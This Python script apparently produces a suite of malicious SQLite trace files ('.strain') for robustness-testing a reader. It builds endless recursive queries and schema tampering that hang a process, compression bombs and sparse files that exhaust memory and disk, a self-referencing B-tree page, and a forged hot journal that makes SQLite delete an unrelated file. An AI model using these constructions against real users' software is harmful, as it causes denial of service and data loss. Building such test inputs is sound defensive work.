#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Run files that somebody made to hang or to fill the machine of whoever reads them.

    hostile_runs.py RUN FOLDER [NAME]...

Writes FOLDER/NAME.strain for every attack, each made of the sound run RUN; without NAME all. The
names of the attacks and what they do are in the table at the end.
"""

import os
import shutil
import sqlite3
import struct
import sys
import zlib

ENDLESS = "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x) SELECT "
MEBI = 1 << 20


def execute(path, *statements):
    database = sqlite3.connect(path)
    for statement in statements:
        database.execute(statement)
    database.commit()
    database.close()


def change_schema(path, name, sql):
    """Another text for a table, which SQLite would not let anybody write."""
    database = sqlite3.connect(path)
    database.execute("PRAGMA writable_schema = ON")
    database.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (sql, name))
    database.commit()
    database.close()


def a_trigger(path):
    execute(path, "CREATE TRIGGER slow AFTER INSERT ON run BEGIN DELETE FROM label; INSERT OR REPLACE INTO label"
            f" {ENDLESS} n % 3, n FROM x LIMIT 1000000000; END",
            "DELETE FROM run WHERE key IN ('end_ns', 'status')",
            "UPDATE run SET value = 'recording' WHERE key = 'state'")


def a_view_as_a_table(path):
    execute(path, "ALTER TABLE summary RENAME TO hidden",
            f"CREATE VIEW summary AS {ENDLESS} n AS entity, n AS metric, NULL AS epoch, n AS total,"
            " n AS mean, n AS p50, n AS p95, n AS max FROM x")


def a_view_of_keys(path):
    execute(path, "ALTER TABLE run RENAME TO hidden",
            f"CREATE VIEW run AS {ENDLESS} n AS key, n AS value FROM x")


def the_summarys_view(path):
    execute(path, "DROP VIEW summary_by_name",
            f"CREATE VIEW summary_by_name AS {ENDLESS} n AS value FROM x")


def generated_columns(path):
    execute(path, "ALTER TABLE label RENAME TO hidden",
            "CREATE TABLE label (name TEXT PRIMARY KEY) STRICT, WITHOUT ROWID",
            f"INSERT INTO label {ENDLESS} n FROM x LIMIT 500")
    change_schema(path, "label", "CREATE TABLE label (name TEXT PRIMARY KEY, value TEXT GENERATED ALWAYS AS"
                  " (hex(zeroblob(50000000))) VIRTUAL) STRICT, WITHOUT ROWID")


def generated_events(path):
    execute(path, "ALTER TABLE event RENAME TO hidden",
            "CREATE TABLE event (id INTEGER PRIMARY KEY, t_ns INTEGER, kind TEXT, entity INTEGER) STRICT",
            f"INSERT INTO event (t_ns, kind) {ENDLESS} n, 'lost' FROM x LIMIT 500")
    change_schema(path, "event", "CREATE TABLE event (id INTEGER PRIMARY KEY, t_ns INTEGER, kind TEXT,"
                  " entity INTEGER, text TEXT GENERATED ALWAYS AS (hex(zeroblob(50000000))) VIRTUAL,"
                  " attributes TEXT GENERATED ALWAYS AS (hex(zeroblob(50000000))) VIRTUAL) STRICT")


def a_check_that_lasts(path):
    """integrity_check evaluates CHECK."""
    execute(path, f"INSERT INTO label {ENDLESS} n, '' FROM x LIMIT 2000")
    change_schema(path, "label", "CREATE TABLE label (\n\tname TEXT PRIMARY KEY,\n\tvalue TEXT NOT NULL"
                  " CHECK (length(hex(zeroblob(50000000))) > 1)\n) STRICT, WITHOUT ROWID")


def an_index_of_an_expression(path):
    execute(path, "CREATE INDEX slow ON block (length(hex(zeroblob(1000000 + (id & 1)))))")


def a_virtual_table(path):
    execute(path, "ALTER TABLE span RENAME TO hidden",
            "CREATE VIRTUAL TABLE span USING fts5(id, name, kind, start_ns, end_ns, thread, parent, number,"
            " samples, value, attributes)")


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def zigzag(number):
    return varint(number << 1 if number >= 0 else (-number << 1) - 1)


def column(kind, *numbers):
    data = bytes([kind]) + b"".join(numbers)
    return varint(len(data)) + data


def constant_block(rows, metrics, first_us):
    """2^20 rows and some columns in a few bytes: times one us apart, values all the same."""
    data = b"\0" + varint(rows) + varint(len(metrics)) + b"".join(varint(m) for m in metrics)
    data += column(5, zigzag(first_us), zigzag(1))
    data += b"".join(column(1, zigzag(7)) for _ in metrics)
    return data + struct.pack("<I", zlib.crc32(data))


def put_constants(path, n_blocks, metric_name, said_rows=MEBI):
    database = sqlite3.connect(path)
    (metric, source, kind), = database.execute(
        "SELECT id, source, entity_kind FROM metric WHERE name = ? AND entity_kind = 'process'",
        (metric_name,)).fetchall()
    entity = database.execute("SELECT min(id) FROM entity WHERE kind = ?", (kind,)).fetchone()[0]
    for i in range(n_blocks):
        payload = constant_block(MEBI, [metric], i * MEBI)
        database.execute(
            "INSERT INTO block (entity, source, t_first, t_last, rows, codec, payload)"
            " VALUES (?, ?, ?, ?, ?, 1, ?)",
            (entity, source, i * MEBI * 1000, (i + 1) * MEBI * 1000, said_rows, payload))
    database.commit()
    database.close()


def constants(path):
    put_constants(path, 200, "process.memory.usage")


def constants_that_say_little(path):
    put_constants(path, 200, "process.memory.usage", said_rows=1)


def put_dense(path, n_entities, n_blocks, n_metrics, n_columns, said_rows=MEBI):
    """Blocks of constants for many processes, of metrics that stand first in the table; no summary."""
    database = sqlite3.connect(path)
    source, = database.execute("SELECT source FROM metric WHERE entity_kind = 'process'").fetchone()
    metrics = [i for i, in database.execute(
        "SELECT id FROM metric WHERE source = ? AND entity_kind = 'process' LIMIT ?", (source, n_metrics))]
    parent, = database.execute("SELECT min(id) FROM entity").fetchone()
    rows = min(MEBI, (1 << 23) // (n_columns + 1))
    columns = (metrics * n_columns)[:n_columns]
    for i in range(n_entities):
        entity = database.execute(
            "INSERT INTO entity (kind, key, name, parent, first_ns) VALUES ('process', ?, 'x', ?, 0)",
            (f"{i + 100}:1", parent)).lastrowid
        for j in range(n_blocks):
            database.execute(
                "INSERT INTO block (entity, source, t_first, t_last, rows, codec, payload)"
                " VALUES (?, ?, ?, ?, ?, 1, ?)",
                (entity, source, j * rows * 1000, (j + 1) * rows * 1000, min(rows, said_rows),
                 constant_block(rows, columns, j * rows)))
    database.execute("DELETE FROM summary")
    database.execute("UPDATE run SET value = 'cut_off' WHERE key = 'state'")
    database.commit()
    database.close()


def dense_blocks(path):
    """Rows within the bounds, two billion of them: 8 billion values in 200 kB."""
    put_dense(path, 60, 31, 4, 4)


def dense_columns(path):
    """Few rows, and each metric many times."""
    put_dense(path, 60, 31, 4, 250)


def dense_blocks_in_a_damaged_file(path):
    dense_blocks(path)
    rows_that_refer_to_each_other(path)


def dense_blocks_that_say_little(path):
    put_dense(path, 60, 31, 4, 4, said_rows=1)


def words_of_spans(path):
    """A block of one span, and 3,000,000 words that nobody uses."""
    data = b"\0" + varint(1) + varint(6) + b"".join(varint(i) for i in range(6))
    data += b"".join(column(1, zigzag(1)) for _ in range(7))
    data += struct.pack("<I", zlib.crc32(data))
    database = sqlite3.connect(path)
    database.execute("INSERT INTO span_block (first_ns, last_ns, first_id, last_id, rows, codec, words,"
                     " payload) VALUES (1, 2, 1, 1, 1, 1, ?, ?)", (b"\0\0001\0\0" * 12_000_000, data))
    database.commit()
    database.close()


def many_keys(path):
    database = sqlite3.connect(path)
    database.executemany("INSERT INTO run VALUES (?, ?)", ((f"k{i}", "x" * 200) for i in range(300_000)))
    database.commit()
    database.close()


def many_entities(path):
    database = sqlite3.connect(path)
    database.executemany("INSERT INTO entity (kind, key, name, parent, first_ns) VALUES ('process', ?, 'x', 1, 0)",
                         ((f"{i}:1",) for i in range(400_000)))
    database.commit()
    database.close()


def a_huge_sparse_file(path):
    """The header says two billion pages, and the file has them: 8 TiB of holes."""
    with open(path, "r+b") as file:
        page = int.from_bytes(file.read(18)[16:18], "big")
        pages = 0x7ffffff0
        while pages > 1:
            try:
                os.truncate(path, page * pages)
                break
            except OSError:
                pages //= 2
        file.seek(28)
        file.write(struct.pack(">I", pages))


def rows_that_refer_to_each_other(path):
    """A page of the table of events whose right child is itself."""
    database = sqlite3.connect(path)
    database.execute("PRAGMA page_size = 512")
    database.executemany("INSERT INTO event (t_ns, kind, text) VALUES (?, 'lost', ?)",
                         ((i, "x" * 100) for i in range(3000)))
    database.commit()
    root, size = database.execute(
        "SELECT rootpage, (SELECT page_size FROM pragma_page_size) FROM sqlite_master"
        " WHERE name = 'event'").fetchone()
    database.close()
    with open(path, "r+b") as file:
        file.seek((root - 1) * size + 8)
        file.write(struct.pack(">I", root))


def a_journal_of_another(path):
    """A hot journal that names a file as its super-journal: SQLite removes that when it is done."""
    victim = os.path.join(os.path.dirname(os.path.abspath(path)), "precious")
    with open(victim, "w", encoding="ascii") as file:
        file.write("do not remove\n")
    with open(path, "rb") as file:
        header = file.read(100)
    page = int.from_bytes(header[16:18], "big")
    pages = os.path.getsize(path) // page
    start = bytes.fromhex("d9d505f920a163d7") + struct.pack(">IIIII", 0, 0, pages, 512, page)
    name = victim.encode()
    checksum = sum(name) & 0xffffffff
    with open(path + "-journal", "wb") as file:
        file.write(start.ljust(512, b"\0"))
        file.write(struct.pack(">I", 0x40000000 // page + 1) + name)
        file.write(struct.pack(">II", len(name), checksum) + bytes.fromhex("d9d505f920a163d7"))


ATTACKS = {
    attack.__name__: attack for attack in (
        a_trigger, a_view_as_a_table, a_view_of_keys, the_summarys_view, generated_columns,
        generated_events, a_check_that_lasts, an_index_of_an_expression, a_virtual_table, constants,
        constants_that_say_little, dense_blocks, dense_columns,
        dense_blocks_in_a_damaged_file, dense_blocks_that_say_little, words_of_spans, many_keys, many_entities, a_huge_sparse_file,
        rows_that_refer_to_each_other, a_journal_of_another)
}


def main():
    run, folder, names = sys.argv[1], sys.argv[2], sys.argv[3:] or list(ATTACKS)
    os.makedirs(folder, exist_ok=True)
    for name in names:
        path = os.path.join(folder, name + ".strain")
        shutil.copyfile(run, path)
        ATTACKS[name](path)
        os.utime(path, (1, 1))  # nobody records it


if __name__ == "__main__":
    main()
